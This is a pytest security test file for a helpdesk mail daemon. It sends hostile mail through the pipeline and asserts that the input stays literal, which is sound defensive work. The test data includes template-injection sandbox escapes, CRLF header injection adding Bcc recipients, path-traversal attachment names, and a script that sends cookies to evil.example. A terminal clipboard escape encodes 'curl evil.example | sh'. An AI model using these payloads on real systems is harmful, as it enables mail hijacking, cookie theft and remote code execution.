"""What strangers write is data: never template source, never a header, never
a path, never markup or terminal control that runs where it is shown.

Each test sends hostile mail through the real pipeline (or the real CLI) and
looks at what actually left: the mail the relay caught, the files on disk,
the text `spocd show` printed.
"""

from __future__ import annotations

import base64
import email
import email.policy
import uuid
from email.message import EmailMessage
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError
from sqlalchemy import text

from daemon.adapters.templates import TemplateRenderer
from daemon.service.wiring import App
from tests.conftest import ROOT, write_config
from tests.support.flow import ingest
from tests.support.mail import make_mail
from tests.support.proc import spocd
from tests.support.relay import Relay

HOSTILE_SUBJECT = (
    "Printer {{ 7*7 }} {% for x in range(3) %}loop{% endfor %} <script>alert(1)</script>"
)
HOSTILE_BODY = (
    "Total: {{ 7*7 }}\n"
    "{% for x in range(3) %}loop{% endfor %}\n"
    "{{ ''.__class__.__mro__[1].__subclasses__() }}\n"
    "<script>alert('x')</script> <b>bold</b> & more\n"
)


def parts(raw: bytes) -> tuple[EmailMessage, str, str]:
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(msg, EmailMessage)
    plain = msg.get_body(("plain",))
    html = msg.get_body(("html",))
    assert plain is not None and html is not None
    return msg, plain.get_content().replace("\r\n", "\n"), html.get_content()


def test_template_syntax_and_markup_from_users_stay_literal_text(
    relay_app: App, relay: Relay
) -> None:
    outcome = ingest(relay_app, make_mail(subject=HOSTILE_SUBJECT, body=HOSTILE_BODY))
    assert outcome.outcome == "created"
    [ack] = relay.to("jan.kowalski@example.org")
    msg, plain, html = parts(ack.raw)
    assert HOSTILE_SUBJECT in str(msg["Subject"])
    assert HOSTILE_SUBJECT in plain  # the ack quotes the subject as it was
    assert "49" not in plain and "looplooploop" not in plain
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "{{ 7*7 }}" in html

    [notice] = relay.to("anna@example.com")  # the group hears of it, body included
    _, plain, html = parts(notice.raw)
    assert HOSTILE_BODY.strip() in plain
    assert "__subclasses__" in plain and "<class" not in plain
    assert "<script>" not in html and "<b>bold</b>" not in html
    assert "&lt;script&gt;" in html and "&amp; more" in html


def test_the_sandbox_stops_unsafe_code_even_in_an_admins_template(tmp_path: Path) -> None:
    import shutil

    shutil.copytree(ROOT / "templates", tmp_path / "templates")
    (tmp_path / "templates" / "en" / "ack.subject.txt").write_text(
        "{{ helpdesk.__class__.__mro__[1].__subclasses__() }}\n"
    )
    renderer = TemplateRenderer(tmp_path / "templates")
    with pytest.raises(SecurityError):
        renderer.render(
            "en", "ack", {"helpdesk": {"name": "x", "address": "y"}, "tag": "", "ticket": {}}
        )


# --- header injection ------------------------------------------------------------------------


def q_word(text: str) -> str:
    return "=?utf-8?q?" + "".join(f"={b:02X}" for b in text.encode()) + "?="


def b_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


INJECTED = "Hello\r\nBcc: victim@evil.example\r\nX-Injected: yes\r\n\r\n<html>body</html>"


@pytest.mark.parametrize(
    "subject",
    [
        q_word(INJECTED),
        b_word(INJECTED),
        b_word("Hello\nBcc: victim@evil.example") + " " + q_word("\rX-Injected: yes"),
        q_word("Hello\u2028Bcc: victim@evil.example\u0085X-Injected: yes"),
    ],
    ids=["q-encoded-crlf", "b-encoded-crlf", "split-words", "unicode-line-breaks"],
)
def test_encoded_line_breaks_in_a_subject_inject_no_header(
    relay_app: App, relay: Relay, subject: str
) -> None:
    raw = make_mail().replace(
        b"Subject: Printer on floor 2 does not print", f"Subject: {subject}".encode()
    )
    display = q_word("Jan\r\nBcc: victim2@evil.example")
    raw = raw.replace(
        b"From: jan.kowalski@example.org", f"From: {display} <jan@example.org>".encode()
    )
    outcome = ingest(relay_app, raw)
    assert outcome.outcome == "created"
    [ack] = relay.to("jan@example.org")
    assert ack.rcpt_tos == ["jan@example.org"]
    assert not relay.to("victim@evil.example") and not relay.to("victim2@evil.example")
    msg, _, _ = parts(ack.raw)
    assert msg["Bcc"] is None and msg["X-Injected"] is None
    head = ack.raw.split(b"\r\n\r\n", 1)[0]
    names = [
        line.split(b":", 1)[0].lower() for line in head.split(b"\r\n") if line[:1] not in b" \t"
    ]
    assert b"bcc" not in names and b"x-injected" not in names
    assert "Bcc: victim@evil.example" in " ".join(str(msg["Subject"]).split())


# --- attachment names ------------------------------------------------------------------------


def test_attachment_names_never_become_paths(tmp_path: Path) -> None:
    tag = uuid.uuid4().hex
    dispositions = [
        f'filename="../../../../../../../../tmp/spocd-pwned-{tag}.txt"',
        f'filename="..\\..\\..\\spocd-pwned-{tag}.bat"',
        f'filename="/etc/cron.d/spocd-pwned-{tag}"',
        f'filename="./.spocd-pwned-{tag}"',
        f"filename*=utf-8''%2E%2E%2F%2E%2E%2F%2E%2E%2Fspocd-pwned-{tag}.rfc2231",
        f'filename="=?utf-8?q?=2E=2E=2F=2E=2E=2Fspocd-pwned-{tag}.rfc2047?="',
    ]
    lines = [
        "From: jan@example.org",
        "To: helpdesk@example.com",
        "Subject: Logs attached",
        f"Message-ID: <{tag}@example.org>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b1"',
        "",
        "--b1",
        "Content-Type: text/plain",
        "",
        "See attached.",
    ]
    for n, disposition in enumerate(dispositions):
        lines += [
            "--b1",
            "Content-Type: application/octet-stream",
            f"Content-Disposition: attachment; {disposition}",
            "",
            f"part {n}",
        ]
    raw = "\r\n".join([*lines, "--b1--", ""]).encode()
    workdir = tmp_path / "a" / "b" / "c" / "d"
    workdir.mkdir(parents=True)
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'spocd.db'}")
    (workdir / "mail.eml").write_bytes(raw)
    done = spocd("ingest", "mail.eml", config=config, cwd=workdir)
    assert done.returncode == 0, done.stderr

    assert not list(Path("/tmp").glob(f"spocd-pwned-{tag}*"))
    assert not Path(f"/etc/cron.d/spocd-pwned-{tag}").exists()
    assert not [p for p in tmp_path.rglob(f"*{tag}*")], "a file was written by a mail's name"
    from sqlalchemy import create_engine

    engine = create_engine(f"sqlite:///{tmp_path / 'spocd.db'}")
    with engine.connect() as conn:
        stored = [r[0] for r in conn.execute(text("SELECT filename FROM attachments"))]
    engine.dispose()
    assert len(stored) == len(dispositions)
    for name in stored:
        assert "/" not in name and "\\" not in name and not name.startswith(".")
        assert tag in name  # still recognisable to the agent


# --- HTML and terminal control ---------------------------------------------------------------

EVIL_HTML = (
    "<html><head><style>body{display:none}</style>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
    "<body><p>My screen is black</p>"
    '<img src="x" onerror="alert(1)">'
    '<a href="javascript:alert(2)">details</a>'
    '<iframe src="https://evil.example/"></iframe>'
    "<p>\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m \u202egnp.exe</p></body></html>"
)


def test_html_is_sanitised_before_anything_shows_or_forwards_it(tmp_path: Path) -> None:
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'spocd.db'}")
    raw = make_mail(subject="Screen \x1b[2J black", body="", html=EVIL_HTML)
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    html_only = EmailMessage()
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        html_only[name] = msg[name]
    html_only.set_content(EVIL_HTML, subtype="html")
    (tmp_path / "html.eml").write_bytes(html_only.as_bytes())
    assert spocd("ingest", str(tmp_path / "html.eml"), config=config).returncode == 0

    shown = spocd("show", "HD-1", config=config)
    assert shown.returncode == 0, shown.stderr
    out = shown.stdout.decode()
    assert "My screen is black" in out
    for bad in (
        "<script",
        "document.cookie",
        "onerror",
        "javascript:",
        "<iframe",
        "\x1b",
        "\u202e",
    ):
        assert bad not in out, bad
    assert "\\x1b" in out  # shown, harmlessly, as an escape

    from sqlalchemy import create_engine

    engine = create_engine(f"sqlite:///{tmp_path / 'spocd.db'}")
    with engine.connect() as conn:
        [(stored,)] = conn.execute(text("SELECT html FROM messages WHERE direction = 'in'"))
    engine.dispose()
    for bad in ("<script", "onerror", "javascript:", "<iframe", "<style"):
        assert bad not in stored, bad

    # What agents are sent about the ticket carries none of it either.
    sent = list((tmp_path / "sent" / "new").iterdir())
    notice = next(p for p in sent if b"anna@example.com" in p.read_bytes()[:400])
    _, plain, html = parts(notice.read_bytes().split(b"\r\n", 2)[2])
    assert "javascript:" not in plain and "document.cookie" not in plain
    assert "<script" not in html and "javascript:" not in html


CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2028")


def test_terminal_escapes_and_bidi_overrides_never_leave_in_headers_or_bodies(
    relay_app: App, relay: Relay
) -> None:
    body = (
        "Red: \x1b[31mALERT\x1b[0m\n"
        "Clipboard: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\n"
        "CSI: \x9b2J\n"
        "File: invoice\u202egpj.exe and \u2066isolated\u2069\n"
        "\tindented line\u2028separated\n"
    )
    outcome = ingest(relay_app, make_mail(subject="Invoice \u202egpj.exe", body=body))
    assert outcome.outcome == "created"
    [ack] = relay.to("jan.kowalski@example.org")
    [notice] = relay.to("anna@example.com")
    for sent in (ack, notice):
        msg, plain, html = parts(sent.raw)
        subject = str(msg["Subject"])
        assert "[U+202E]gpj.exe" in subject
        for part in (subject, plain, html):
            assert not any(char in part for char in CONTROLS), repr(part)
    _, plain, html = parts(notice.raw)
    assert "[31mALERT" in plain and "[U+202E]gpj.exe" in plain and "[U+2066]isolated" in plain
    assert "\tindented line\nseparated" in plain  # tab and newline stay
    assert "[U+202E]gpj.exe" in html
